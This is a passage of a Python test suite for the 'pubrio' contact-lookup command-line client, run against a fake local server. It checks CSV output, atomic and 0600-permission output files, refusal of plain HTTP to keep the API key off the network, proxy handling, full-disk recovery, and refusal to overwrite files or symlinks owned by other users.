        found = [row for row in out[1:] if row[-1] == "found"]
        self.assertTrue(all(row[1] and row[3] and row[5] for row in found))
        self.assertEqual([row[0] for row in out[1:] if row[-1] ==
                          "not found"], nobody)

    def test_linkedin_urls_and_arguments(self):
        person = ids(1, seed=62)[0]
        r = self.run_cli("redeem", "--types", self.types, "--wait",
                         "--format", "csv", "linkedin.com/in/nobody-x",
                         person.upper(), "https://www.linkedin.com/in/jane-doe")
        self.assertEqual(r.returncode, 0, r.stderr)
        out = parse_csv(r.stdout.encode())
        self.assertEqual(out[0], ["people_search_id", "linkedin_url"] +
                         APPENDED)
        jane = fake_linkedin_id("jane-doe")
        self.assertEqual(out[1:], [
            ["", "https://www.linkedin.com/in/nobody-x"] +
            ["", "", "", "", "", "", "not found"],
            [person, ""] + fake_contacts(person, self.types),
            [jane, "https://www.linkedin.com/in/jane-doe"] +
            fake_contacts(jane, self.types)])


class CsvFromIdsStopped(CsvRun):
    server_args = ("--estimated-time", "0", "--complete-after-polls",
                   "1000000")

    def test_rows_not_collected_name_their_batch(self):
        people = ids(3, seed=63)
        r = self.run_cli("redeem", "--types", "phone", "--wait", "--format",
                         "csv", "--max-wait", "1", "--batch-size", "2",
                         *people)
        self.assertEqual(r.returncode, 6, r.stderr)
        out = parse_csv(r.stdout.encode())
        self.assertEqual([row[0] for row in out[1:]], people)
        named = self.named_batches(r.stderr)
        self.assertEqual(len(named), 2, r.stderr)
        for row in out[1:]:
            self.assertRegex(row[-1], r"^error: not collected \(batch (%s)\)$"
                             % "|".join(named))

class AtomicOutput(CliTest):
    def test_kill_9_never_leaves_half_a_file(self):
        import random
        rng = random.Random(20261202)
        server = FakeServer("--estimated-time", "0", "--latency-ms", "30")
        self.addCleanup(server.stop)
        env = dict(os.environ, PUBRIO_BASE_URL=server.url,
                   PUBRIO_API_KEY="test-key")
        people = ids(60, seed=14)
        f = self.write("in.csv", ["people_search_id,n"] +
                       [f"{p},{i}" for i, p in enumerate(people)])
        out = self.path("out.csv")
        previous = b"previous,complete\r\nversion,1\r\n"
        with open(out, "wb") as fh:
            fh.write(previous)
        os.chmod(out, 0o640)
        args = [CLI, "redeem", "--types", "phone", "--wait", "--format", "csv",
                "--batch-size", "5", "--parallel", "2", "--input", f,
                "--output", out]
        replaced = False
        for _ in range(12):
            proc = subprocess.Popen(args, stdout=subprocess.DEVNULL,
                                    stderr=subprocess.DEVNULL, env=env)
            time.sleep(rng.uniform(0.05, 0.5))
            proc.kill()
            proc.wait()
            with open(out, "rb") as fh:
                got = fh.read()
            if got != previous:  # a kill after the rename: a whole run
                self.assertEqual(len(parse_csv(got)), 61)
                previous = got
                replaced = True
            # The old FILE keeps its mode; a new one is always 0600.
            self.assertEqual(os.stat(out).st_mode & 0o777,
                             0o600 if replaced else 0o640)
        # Killed runs leave only hidden temporaries (they were writing),
        # never a partial FILE.
        names = set(os.listdir(self.tmp.name)) - {"in.csv", "out.csv"}
        self.assertTrue(names, "no kill came while a run was writing")
        for name in names:
            self.assertTrue(name.startswith(".out.csv."), name)
        r = subprocess.run(args, capture_output=True, env=env, timeout=120)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(r.stdout, b"")
        with open(out, "rb") as fh:
            rows = parse_csv(fh.read())
        self.assertEqual(len(rows), 61)
        self.assertEqual([row[0] for row in rows[1:]], people)
        # Always 0600 (contacts are personal data), whatever FILE's was.
        self.assertEqual(os.stat(out).st_mode & 0o777, 0o600)

    def test_new_file_is_0600_and_a_failed_run_leaves_the_old_one(self):
        out = self.path("batches.jsonl")
        r = self.run_cli("redeem", "--types", "phone", "--output", out,
                         *ids(2))
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(r.stdout, "")
        self.assertEqual(os.stat(out).st_mode & 0o777, 0o600)
        with open(out) as fh:
            first = fh.read()
        self.assertEqual(json.loads(first)["people"], 2)
        # A usage error: nothing sent, FILE as it was, no temporary left.
        r = self.run_cli("redeem", "--types", "phone", "--output", out,
                         "not-a-uuid")
        self.assertEqual(r.returncode, 2)
        with open(out) as fh:
            self.assertEqual(fh.read(), first)
        self.assertEqual(sorted(os.listdir(self.tmp.name)),
                         ["batches.jsonl"])
        # A directory that does not exist: exit 2 before anything is sent.
        r = self.run_cli("query", "--output", self.path("no/such/file"),
                         ids(1)[0])
        self.assertEqual(r.returncode, 2)
        self.assertIn("--output", r.stderr)
        self.assertEqual(self.server.requests(SUBMIT), 1)


class Touches2(CliTest):
    def test_help_forms_print_the_same_help(self):
        full = self.run_cli("--help")
        self.assertEqual(full.returncode, 0)
        self.assertEqual(self.run_cli("-h").stdout, full.stdout)
        self.assertEqual(self.run_cli("help").stdout, full.stdout)
        redeem = self.run_cli("redeem", "--help")
        for args in (("redeem", "-h"), ("help", "redeem")):
            r = self.run_cli(*args)
            self.assertEqual(r.returncode, 0)
            self.assertEqual(r.stdout, redeem.stdout)
        for word in ("--input-format", "--id-column", "--url-column",
                     "--delimiter", "--strict", "--output", "pubrio_result"):
            self.assertIn(word, redeem.stdout)
        self.assertEqual(self.run_cli("help", "query").stdout,
                         self.run_cli("query", "--help").stdout)
        r = self.run_cli("help", "bogus")
        self.assertEqual(r.returncode, 2)
        self.assertTrue(r.stderr.startswith("pubrio: help:"))

    def test_dry_run_needs_no_key(self):
        r = self.run_cli("redeem", "--types", "phone", "--dry-run", *ids(3),
                         key="")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("people to submit:   3", r.stdout)
        self.assertEqual(self.server.requests(), 0)

    def test_401_says_its_status_and_request_id_once(self):
        for args in (("redeem", "--types", "phone", ids(1)[0]),
                     ("query", ids(1)[0])):
            r = self.run_cli(*args, key="wrong")
            self.assertEqual(r.returncode, 3, r.stderr)
            self.assertEqual(len(r.stderr.splitlines()), 1, r.stderr)
            # The server's port may hold "401" too: count outside the URL.
            said = re.sub(r"https?://\S+", "URL", r.stderr)
            self.assertEqual(said.count("401"), 1, r.stderr)
            self.assertEqual(r.stderr.lower().count("unauthorized"), 1,
                             r.stderr)
            self.assertEqual(len(re.findall(r"req-\d+", r.stderr)), 1,
                             r.stderr)
        # A 400's code and request id, once each too.
        r = self.run_cli("query", "00000000-0000-4000-8000-0000000000ff")
        said = re.sub(r"https?://\S+", "URL", r.stderr)
        self.assertEqual(said.count("40004"), 1, r.stderr)
        self.assertEqual(len(re.findall(r"req-\d+", r.stderr)), 1, r.stderr)

    def run_on_terminal(self, *args, env_extra=None):
        """stdout and stderr on one pseudo-terminal, as a user sees them."""
        import pty
        server = FakeServer("--estimated-time", "0", "--latency-ms", "150")
        self.addCleanup(server.stop)
        env = dict(os.environ, PUBRIO_BASE_URL=server.url,
                   PUBRIO_API_KEY="test-key", **(env_extra or {}))
        env.pop("NO_COLOR", None) if not env_extra else None
        master, slave = pty.openpty()
        proc = subprocess.Popen([CLI, *args], stdout=slave, stderr=slave,
                                stdin=subprocess.DEVNULL, env=env)
        os.close(slave)
        data = b""
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:
                break
            if not chunk:
                break
            data += chunk
        os.close(master)
        self.assertEqual(proc.wait(timeout=60), 0, data)
        return data

    def test_progress_line_is_cleared_before_results_on_one_terminal(self):
        args = ("redeem", "--types", "phone", "--wait", "--batch-size", "1",
                "--parallel", "1", *ids(4, seed=15))
        data = self.run_on_terminal(*args)
        self.assertIn(b"\x1b[K", data)  # the line was drawn
        results = [m.start() for m in re.finditer(rb'\{"people_search_id"',
                                                  data)]
        self.assertEqual(len(results), 4)
        for at in results:  # each result starts on a clean line
            self.assertTrue(data[:at].endswith((b"\r\x1b[K", b"\n")),
                            data[max(0, at - 80):at])
        # ...and at least one came while the line was drawn: it was erased.
        self.assertTrue(any(data[:at].endswith(b"\r\x1b[K") for at in results),
                        data)
        self.assertNotRegex(data, rb"ETA [0-9:-]+\x1b\[K\{")
        # NO_COLOR: the same, without a single escape sequence.
        data = self.run_on_terminal(*args, env_extra={"NO_COLOR": "1"})
        self.assertNotIn(b"\x1b", data)
        self.assertIn(b"batches ", data)
        self.assertEqual(len(re.findall(rb'\{"people_search_id"', data)), 4)
        self.assertNotRegex(data, rb"ETA [0-9:-]+\{")

    def test_no_escape_sequences_off_a_terminal(self):
        r = self.run_cli("redeem", "--types", "phone", "--wait", "-v",
                         *ids(2))
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("batches 1/1", r.stderr)
        self.assertNotIn("\x1b", r.stderr + r.stdout)
        self.assertNotIn("\r", r.stderr)


def read_all(path):
    with open(path, "rb") as f:
        return f.read()


class OptionsOnce(CliTest):
    """A repeated or empty option is a usage error, before anything is sent
    (issue 26 item 17): `--types email-work --types phone` bought both."""

    def test_every_option_twice_or_empty_is_refused(self):
        person = ids(1)[0]
        key_file = self.write("key.txt", ["test-key"])
        values = {
            "types": "phone", "profile-id": "1",
            "input": self.write("in.txt", [person]), "batch-size": "5",
            "parallel": "2", "max-credits": "10", "max-wait": "5",
            "format": "json", "journal": self.path("j.journal"),
            "price": "email=1", "api-key": "test-key",
            "api-key-file": key_file, "base-url": self.server.url,
            "timeout": "5", "retries": "1", "input-format": "ids",
            "id-column": "a", "url-column": "b", "delimiter": ";",
            "output": self.path("out.jsonl")}
        flags = ["dry-run", "wait", "resubmit-uncertain", "refresh",
                 "no-account", "strict", "quiet"]
        base = ["redeem", "--types", "phone", "--wait"]
        for name, value in values.items():
            with self.subTest(option=name, twice=True):
                extra = [] if name == "types" else base
                r = self.run_cli(*(extra or ["redeem"]), f"--{name}", value,
                                 f"--{name}={value}", person)
                self.assertEqual(r.returncode, 2, r.stderr)
                self.assertIn(f"--{name} is given twice", r.stderr)
            with self.subTest(option=name, empty=True):
                r = self.run_cli("redeem", f"--{name}", "", person)
                self.assertEqual(r.returncode, 2, r.stderr)
                self.assertIn(f"--{name} needs a value", r.stderr)
        for name in flags:
            with self.subTest(option=name, twice=True):
                r = self.run_cli(*base, f"--{name}", f"--{name}", person)
                self.assertEqual(r.returncode, 2, r.stderr)
                self.assertIn(f"--{name} is given twice", r.stderr)
        r = self.run_cli(*base, "-q", "--quiet", person)
        self.assertEqual(r.returncode, 2, r.stderr)
        self.assertEqual(self.server.requests(), 0)
        # --rate (a window each) and -v (more detail) do repeat.
        r = self.run_cli(*base, "--rate", "100", "--rate", "10/1s", "-v",
                         "-v", person)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(self.server.requests(SUBMIT), 1)


class RecordingProxy:
    """An HTTP proxy on 127.0.0.1 that records what each connection sends
    and answers 502."""

    def __init__(self):
        import threading
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.url = "http://127.0.0.1:%d" % self.sock.getsockname()[1]
        self.received = []
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                data = b""
                try:
                    while b"\r\n\r\n" not in data:
                        chunk = conn.recv(65536)
                        if not chunk:
                            break
                        data += chunk
                except OSError:
                    pass
                # Recorded before the answer: the client, answered, may
                # exit and the test look before a later append.
                self.received.append(data)
                try:
                    conn.sendall(b"HTTP/1.1 502 Bad Gateway\r\n"
                                 b"Content-Length: 0\r\n"
                                 b"Connection: close\r\n\r\n")
                except OSError:
                    pass

    def close(self):
        self.sock.close()


class PlainHttp(CliTest):
    """The key never crosses the network in clear (issue 27 item 8): plain
    http only to loopback unless allowed, and loopback never through a
    proxy."""
    key = "test-key"  # the fake server's

    def setUp(self):
        super().setUp()
        self.proxy = RecordingProxy()
        self.addCleanup(self.proxy.close)

    def run_proxied(self, *args, **env_extra):
        env = {k: v for k, v in os.environ.items()
               if k.lower() not in ("http_proxy", "https_proxy", "all_proxy",
                                    "no_proxy", "pubrio_allow_insecure_http")}
        env.update(PUBRIO_API_KEY=self.key, http_proxy=self.proxy.url,
                   https_proxy=self.proxy.url, PUBRIO_BASE_URL=self.server.url)
        env.update(env_extra)
        return subprocess.run([CLI, *args], capture_output=True, text=True,
                              env=env, timeout=60)

    def test_plain_http_to_another_host_is_refused_before_sending(self):
        person = ids(1)[0]
        for args in (("redeem", "--types", "phone", "--wait", person),
                     ("query", person)):
            with self.subTest(args=args[0]):
                r = self.run_proxied(args[0], "--base-url",
                                     "http://api.pubrio.com", "--retries",
                                     "0", *args[1:])
                self.assertEqual(r.returncode, 2, r.stderr)
                self.assertIn("refusing plain http to http://api.pubrio.com",
                              r.stderr)
                self.assertNotIn(self.key, r.stderr)
        r = self.run_proxied("query", "--retries", "0", person,
                             PUBRIO_BASE_URL="http://10.1.2.3:8080")
        self.assertEqual(r.returncode, 2, r.stderr)
        self.assertEqual(self.proxy.received, [])  # nothing left at all
        # Allowed explicitly (the option, or the variable): it goes, here
        # to the proxy, which sees the key: that is what "unsafe" means.
        r = self.run_proxied("query", "--retries", "0",
                             "--allow-insecure-http", "--base-url",
                             "http://api.pubrio.com", person)
        self.assertNotIn("refusing plain http", r.stderr)
        r = self.run_proxied("query", "--retries", "0", "--base-url",
                             "http://api.pubrio.com", person,
                             PUBRIO_ALLOW_INSECURE_HTTP="1")
        self.assertNotIn("refusing plain http", r.stderr)
        self.assertEqual(len(self.proxy.received), 2)
        self.assertIn(self.key.encode(), self.proxy.received[0])

    def test_loopback_never_goes_through_a_proxy(self):
        person = ids(1)[0]
        for base in (self.server.url,
                     self.server.url.replace("127.0.0.1", "localhost")):
            with self.subTest(base=base):
                r = self.run_proxied("redeem", "--types", "phone", "--wait",
                                     "--base-url", base, person)
                self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(self.proxy.received, [])
        self.assertEqual(self.server.requests(SUBMIT), 2)
        # [::1] is loopback too: not refused (nothing listens there).
        r = self.run_proxied("query", "--retries", "0", "--base-url",
                             "http://[::1]:9", person)
        self.assertNotIn("refusing plain http", r.stderr)
        self.assertEqual(self.proxy.received, [])

    def test_https_through_a_proxy_stays_a_tunnel(self):
        r = self.run_proxied("query", "--retries", "0", "--timeout", "5",
                             "--base-url", "https://api.pubrio.com",
                             ids(1)[0])
        self.assertEqual(r.returncode, 5, r.stderr)
        self.assertEqual(len(self.proxy.received), 1)
        self.assertTrue(self.proxy.received[0].startswith(
            b"CONNECT api.pubrio.com:443"), self.proxy.received)
        self.assertNotIn(self.key.encode(), self.proxy.received[0])


class OptionTable(CliTest):
    """The help, the man page and the bash, zsh and fish completions name
    every option of the parser's one table (`pubrio --list-options`), and
    every subcommand (issue 31 item 11)."""
    root = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..")

    def read(self, *parts):
        with open(os.path.join(self.root, *parts)) as f:
            return f.read()

    def test_every_option_appears_everywhere(self):
        r = self.run_cli("--list-options")
        self.assertEqual(r.returncode, 0, r.stderr)
        options = r.stdout.split()
        self.assertIn("--types", options)
        self.assertGreater(len(options), 30)
        help_text = self.run_cli("--help").stdout
        man = self.read("docs", "man", "pubrio.1").replace("\\-", "-")
        bash = self.read("contrib", "pubrio.bash-completion")
        zsh = self.read("contrib", "pubrio.zsh-completion")
        fish = self.read("contrib", "pubrio.fish")
        for opt in options:
            with self.subTest(option=opt):
                word = re.compile(re.escape(opt) + r"(?![\w-])")
                self.assertRegex(help_text, word, "--help")
                self.assertRegex(man, word, "the man page")
                self.assertRegex(bash, word, "bash")
                self.assertRegex(zsh, word, "zsh")
                self.assertRegex(fish, r"-l " + re.escape(opt[2:]) +
                                 r"(?![\w-])", "fish")
        for command in ("redeem", "query", "export", "status"):
            with self.subTest(command=command):
                for text in (help_text, man, bash, zsh, fish):
                    self.assertIn(command, text)
        # `pubrio help query` says its options, not "as above".
        r = self.run_cli("help", "query")
        self.assertNotIn("as above", r.stdout)
        self.assertIn("--max-wait", r.stdout)


class SmallPoints(CliTest):
    """Issue 31 item 13's small points."""

    def test_a_semicolon_csv_says_which_delimiter_to_pass(self):
        f = self.write("leads.csv", ["people_search_id;name",
                                     ids(1)[0] + ";Ann"])
        r = self.run_cli("redeem", "--types", "phone", "--wait", "--input", f)
        self.assertEqual(r.returncode, 2, r.stderr)
        self.assertIn("pass --delimiter ';'", r.stderr)
        self.assertEqual(self.server.requests(), 0)

    def test_one_balance_figure_named_the_same_in_plan_and_summary(self):
        person = ids(1)[0]
        plan = self.run_cli("redeem", "--types", "phone", "--dry-run", person)
        self.assertEqual(plan.returncode, 0, plan.stderr)
        before = int(re.search(r"balance (\d+) \(credit \+ top-up\)",
                               plan.stdout).group(1))
        r = self.run_cli("redeem", "--types", "phone", "--wait", person)
        self.assertEqual(r.returncode, 0, r.stderr)
        charged = int(re.search(r"(\d+) credits? charged", r.stderr).group(1))
        after = int(re.search(r"balance (\d+) \(credit \+ top-up\)",
                              r.stderr).group(1))
        self.assertGreater(charged, 0)
        self.assertEqual(after, before - charged)


class EarlyStop(CliTest):
    """An early stop names its batches in one file and one command, and its
    summary says what is accepted, charged and still open (issue 26 item
    13)."""
    server_args = ("--estimated-time", "0", "--complete-after-ms", "4000",
                   "--phone-price", "3")

    def test_one_command_collects_every_batch_left(self):
        people = ids(40, seed=31)
        f = self.write("in.txt", people)
        for journal in ((), ("--journal", self.path("run.journal"))):
            with self.subTest(journal=bool(journal)):
                submits = self.server.requests(SUBMIT)
                r = self.run_cli("redeem", "--types", "phone", "--wait",
                                 "--batch-size", "1", "--parallel", "8",
                                 "--rate", "100000", "--max-wait", "1",
                                 "--input", f, *journal)
                self.assertEqual(r.returncode, 6, r.stderr)
                self.assertEqual(r.stderr.count("pubrio query"), 1, r.stderr)
                self.assertLess(len(r.stderr.splitlines()), 8, r.stderr)
                named = self.named_batches(r.stderr)
                # Every batch accepted (a slow machine may not submit all
                # 40 within the second) is named, once.
                accepted = self.server.requests(SUBMIT) - submits
                self.assertGreater(accepted, 10)
                self.assertEqual(len(set(named)), accepted, r.stderr)
                self.assertEqual(len(named), accepted)
                self.assertIn(
                    f"pubrio: {accepted} batches accepted, {accepted} still "
                    f"open: 0 credits charged so far, at most {3 * accepted} "
                    "more when they are collected", r.stderr)
                r = self.run_cli("query", "--wait", "--input",
                                 re.search(r"--input (\S+)",
                                           r.stderr).group(1))
                self.assertEqual(r.returncode, 0, r.stderr)
                got = [p["people_search_id"] for p in self.people(r.stdout)]
                self.assertEqual(len(set(got)), accepted)
                self.assertLessEqual(set(got), set(people))
                people = ids(40, seed=32)  # the second run: new people
                f = self.write("in.txt", people)


class ClosedPipeFromJournal(CliTest):
    def test_people_from_the_journal_are_named_as_rerunnable(self):
        people = ids(3000, seed=61)
        journal = self.path("run.journal")
        f = self.write("in.txt", people)
        r = self.run_cli("redeem", "--types", "phone", "--wait", "--rate",
                         "100000", "--input", f, "--journal", journal)
        self.assertEqual(r.returncode, 0, r.stderr)
        env = dict(os.environ, PUBRIO_BASE_URL=self.server.url,
                   PUBRIO_API_KEY="test-key")
        # A rerun hands everyone out from the journal (no request), into a
        # pipe its reader closes after one line.
        proc = subprocess.Popen([CLI, "redeem", "--types", "phone", "--wait",
                                 "--input", f, "--journal", journal],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                env=env)
        proc.stdout.readline()
        proc.stdout.close()
        err = proc.stderr.read().decode()
        proc.stderr.close()
        proc.wait(timeout=60)
        self.assertEqual(proc.returncode, 8, err)
        self.assertRegex(err, r"\d+ people handed out from the journal or "
                         r"asked by LinkedIn URL may not have reached the "
                         r"output: the journal holds them; rerun with the "
                         r"same --journal \(0 credits\)")


class FullDisk(CliTest):
    """A disk that fills under --output or under standard output (issue 26
    items 10 and 11): a real tmpfs of 32 KiB, mounted for the test."""

    def setUp(self):
        super().setUp()
        self.disk = self.path("disk")
        os.mkdir(self.disk)
        r = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=32k", "tmpfs",
                            self.disk], capture_output=True, text=True)
        if r.returncode != 0:
            self.skipTest("cannot mount a tmpfs (needs root): " +
                          r.stderr.strip())
        self.mounted = True
        self.people = ids(600, seed=21)
        self.input = self.write("in.txt", self.people)

    def tearDown(self):
        if getattr(self, "mounted", False):
            subprocess.run(["umount", self.disk], check=True)
        super().tearDown()

    def check_every_paid_person_is_kept_or_named(self, kept_text, err):
        kept = set()
        for line in kept_text.split("\n")[:-1]:  # the last may be cut
            try:
                kept.add(json.loads(line)["people_search_id"])
            except ValueError:
                pass
        named = self.named_batches(err)
        self.assertTrue(named, err)
        env = dict(os.environ, PUBRIO_BASE_URL=self.server.url,
                   PUBRIO_API_KEY="test-key")
        r = subprocess.run([CLI, "query", "--wait", "--input",
                            re.search(r"--input (\S+)", err).group(1)],
                           capture_output=True, text=True, env=env, timeout=60)
        self.assertEqual(r.returncode, 0, r.stderr)
        again = {p["people_search_id"] for p in self.people_of(r.stdout)}
        paid = self.server.stats()["people_submitted"]
        self.assertEqual(len(kept | again), paid, err)
        self.assertLessEqual(kept | again, set(self.people))
        return kept

    def people_of(self, stdout):
        return [json.loads(line) for line in stdout.splitlines() if line]

    def test_output_on_a_full_disk_keeps_what_was_written(self):
        out = os.path.join(self.disk, "contacts.jsonl")
        r = self.run_cli("redeem", "--types", "phone", "--wait",
                         "--batch-size", "20", "--parallel", "2",
                         "--input", self.input, "--output", out)
        self.assertEqual(r.returncode, 8, r.stderr)
        self.assertIn("No space left on device", r.stderr)
        m = re.search(r"what was written before the failure is kept in (\S+) "
                      r"\(incomplete\)", r.stderr)
        self.assertTrue(m, r.stderr)
        self.assertFalse(os.path.exists(out))  # never half a FILE
        with open(m.group(1)) as f:
            kept = self.check_every_paid_person_is_kept_or_named(f.read(),
                                                                 r.stderr)
        self.assertGreater(len(kept), 20)

    def test_stdout_on_a_full_disk_names_what_did_not_reach_it(self):
        out = os.path.join(self.disk, "stdout.jsonl")
        env = dict(os.environ, PUBRIO_BASE_URL=self.server.url,
                   PUBRIO_API_KEY="test-key")
        with open(out, "w") as f:
            r = subprocess.run([CLI, "redeem", "--types", "phone", "--wait",
                                "--batch-size", "20", "--parallel", "2",
                                "--input", self.input], stdout=f,
                               stderr=subprocess.PIPE, text=True, env=env,
                               timeout=120)
        self.assertEqual(r.returncode, 8, r.stderr)
        self.assertIn("No space left on device", r.stderr)
        with open(out) as f:
            self.check_every_paid_person_is_kept_or_named(f.read(), r.stderr)


    def test_csv_rows_written_at_the_end_name_every_batch_on_a_full_disk(self):
        # The rows of --format csv come after the run: no batch is
        # delivered before they are flushed, so a full disk names every
        # batch (from ids and from a CSV input alike).
        env = dict(os.environ, PUBRIO_BASE_URL=self.server.url,
                   PUBRIO_API_KEY="test-key")
        leads = self.write("in.csv", ["people_search_id"] + self.people)
        for given in (self.input, leads):
            with self.subTest(input=os.path.basename(given)):
                out = os.path.join(self.disk, "stdout.csv")
                before = self.server.stats()["people_submitted"]
                with open(out, "w") as f:
                    r = subprocess.run(
                        [CLI, "redeem", "--types", "phone", "--wait",
                         "--format", "csv", "--batch-size", "20",
                         "--parallel", "2", "--input", given],
                        stdout=f, stderr=subprocess.PIPE, text=True, env=env,
                        timeout=120)
                self.assertEqual(r.returncode, 8, r.stderr)
                self.assertIn("No space left on device", r.stderr)
                with open(out) as f:
                    lines = f.read().split("\n")[1:-1]  # the last may be cut
                os.unlink(out)
                kept = {line.split(",")[0] for line in lines}
                self.assertLess(len(kept), len(self.people))
                named = self.named_batches(r.stderr)
                self.assertEqual(len(named), 30, r.stderr)  # 600 / 20
                q = subprocess.run([CLI, "query", "--wait", "--input",
                                    re.search(r"--input (\S+)",
                                              r.stderr).group(1)],
                                   capture_output=True, text=True, env=env,
                                   timeout=60)
                self.assertEqual(q.returncode, 0, q.stderr)
                again = {p["people_search_id"]
                         for p in self.people_of(q.stdout)}
                self.assertEqual(again, set(self.people))
                self.assertEqual(self.server.stats()["people_submitted"] -
                                 before, len(self.people))

class OutputTargets(CliTest):
    """--output on what is not a plain file of ours (issue 27 item 1)."""

    def test_a_fifo_is_written_through_and_left_a_fifo(self):
        import stat
        import threading
        fifo = self.path("results.fifo")
        os.mkfifo(fifo)
        os.chmod(fifo, 0o644)
        got = []
        reader = threading.Thread(
            target=lambda: got.append(read_all(fifo)), daemon=True)
        reader.start()
        r = self.run_cli("redeem", "--types", "phone", "--wait",
                         "--output", fifo, *ids(3))
        if os.path.exists(fifo) and not got and stat.S_ISFIFO(
                os.lstat(fifo).st_mode):  # release a reader never written to
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        reader.join(30)
        self.assertTrue(got, "the FIFO was never written")
        self.assertEqual(r.returncode, 0, r.stderr)
        people = self.people(got[0].decode())
        self.assertEqual(sorted(p["people_search_id"] for p in people),
                         sorted(ids(3)))
        st = os.lstat(fifo)
        self.assertTrue(stat.S_ISFIFO(st.st_mode))
        self.assertEqual(st.st_mode & 0o777, 0o644)
        self.assertEqual(os.listdir(self.tmp.name), ["results.fifo"])

    def test_a_character_device_is_written_through_and_left_a_device(self):
        import stat
        import tty
        import select
        # /dev/tty's character device (5, 0: the process's terminal), made
        # with mknod in our folder; the CLI runs with a pseudo-terminal as
        # its terminal, so what it writes is read back from the master.
        master, slave = os.openpty()
        self.addCleanup(os.close, master)
        tty.setraw(slave)
        dev = self.path("tty.dev")
        os.mknod(dev, 0o620 | stat.S_IFCHR, os.makedev(5, 0))
        os.chmod(dev, 0o620)
        slave_name = os.ttyname(slave)

        def own_terminal():
            os.setsid()
            os.close(os.open(slave_name, os.O_RDWR))  # becomes the terminal

        env = dict(os.environ, PUBRIO_BASE_URL=self.server.url,
                   PUBRIO_API_KEY="test-key")
        r = subprocess.run([CLI, "redeem", "--types", "phone", "--wait",
                            "--output", dev, *ids(2)], capture_output=True,
                           text=True, env=env, timeout=60,
                           preexec_fn=own_terminal)
        self.assertEqual(r.returncode, 0, r.stderr)
        data = b""
        while data.count(b"\n") < 2 and select.select([master], [], [], 5)[0]:
            data += os.read(master, 65536)
        os.close(slave)
        people = self.people(data.decode())
        self.assertEqual(sorted(p["people_search_id"] for p in people),
                         sorted(ids(2)))
        st = os.lstat(dev)
        self.assertTrue(stat.S_ISCHR(st.st_mode))
        self.assertEqual(st.st_mode & 0o777, 0o620)

    def test_a_link_is_followed_and_its_targets_mode_never_copied(self):
        target = self.path("shared.jsonl")
        with open(target, "w") as f:
            f.write("old\n")
        os.chmod(target, 0o666)
        link = self.path("out.jsonl")
        os.symlink(target, link)
        r = self.run_cli("redeem", "--types", "phone", "--wait",
                         "--output", link, *ids(2))
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertTrue(os.path.islink(link))
        self.assertEqual(os.stat(target).st_mode & 0o777, 0o600)
        with open(link) as f:
            self.assertEqual(len(self.people(f.read())), 2)
        # A regular file of ours comes out 0600 too, whatever its mode was.
        plain = self.path("plain.jsonl")
        with open(plain, "w") as f:
            f.write("old\n")
        os.chmod(plain, 0o644)
        r = self.run_cli("redeem", "--types", "phone", "--wait",
                         "--output", plain, *ids(1))
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(os.stat(plain).st_mode & 0o777, 0o600)

    @unittest.skipUnless(os.geteuid() == 0, "needs root to chown")
    def test_what_another_user_owns_is_not_replaced(self):
        nobody = 65534
        theirs = self.path("theirs.jsonl")
        with open(theirs, "w") as f:
            f.write("their data\n")
        os.chown(theirs, nobody, nobody)
        planted = self.path("planted.jsonl")
        mine = self.path("mine.jsonl")
        with open(mine, "w") as f:
            f.write("mine\n")
        os.symlink(mine, planted)
        os.lchown(planted, nobody, nobody)
        for path, words in ((theirs, "owned by another user"),
                            (planted, "symbolic link owned by another user"),
                            (self.tmp.name, "a directory")):
            with self.subTest(path=path):
                r = self.run_cli("redeem", "--types", "phone", "--wait",
                                 "--output", path, *ids(1))
                self.assertEqual(r.returncode, 2, r.stderr)
                self.assertIn(words, r.stderr)
        self.assertEqual(self.server.requests(), 0)
        with open(theirs) as f:
            self.assertEqual(f.read(), "their data\n")
        self.assertEqual(os.stat(theirs).st_uid, nobody)
        with open(mine) as f:
            self.assertEqual(f.read(), "mine\n")
        self.assertTrue(os.path.islink(planted))
        self.assertEqual(sorted(os.listdir(self.tmp.name)),
                         ["mine.jsonl", "planted.jsonl", "theirs.jsonl"])


if __name__ == "__main__":
    unittest.main(verbosity=2)
